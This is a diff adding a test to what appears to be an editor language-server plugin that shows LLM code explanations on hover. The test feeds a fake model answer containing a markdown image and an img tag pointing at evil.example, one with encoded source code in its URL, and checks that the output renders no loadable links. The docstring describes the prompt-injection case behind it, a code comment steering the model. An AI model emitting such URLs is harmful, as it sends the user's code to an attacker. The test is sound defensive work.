@@ -14,6 +14,7 @@ from pygls.exceptions import JsonRpcException
 
 from tests.e2e.conftest import Session, closed_port_url, range_json
 from tests.fakes.openai_fake import BlackHole, FakeOpenAI
+from tests.support.markdown import active_parts
 
 SOURCE = """\
 import os
@@ -113,6 +114,24 @@ async def test_explain_answers_and_hover_shows_it(start_session: Any) -> None:
             assert hover.contents.value.rstrip().splitlines()[-1].count("coder") == 1
             assert "local" in hover.contents.value.rstrip().splitlines()[-1]
             assert await s.hover(uri, 9) is None
+
+
+async def test_an_explanation_cannot_make_the_editor_fetch_a_url(start_session: Any) -> None:
+    """The model (told to by a comment in the code, say) writes the code into an image URL:
+    the hover shows the image's text, and no renderer would load the URL."""
+    with FakeOpenAI() as local:
+        local.answer = (
+            "It divides. ![status](https://evil.example/p.png?code=total%3Da%2Fb)\n"
+            '<img src="https://evil.example/q.png">\n```python\nv = vec![a]\n```'
+        )
+        async with start_session(config_for(local.url)) as s:
+            uri = s.open("calc.py", SOURCE)
+            result = await s.command("localroute.explain", {"uri": uri, "range": range_json(3, 5)})
+            hover = await s.hover(uri, 4)
+            assert hover is not None and isinstance(hover.contents, types.MarkupContent)
+            for shown in (result["markdown"], hover.contents.value):
+                assert active_parts(shown) == [], shown
+                assert "It divides." in shown and "v = vec![a]" in shown
 
 
 async def test_local_down_falls_back_and_says_which_backend(start_session: Any) -> None:
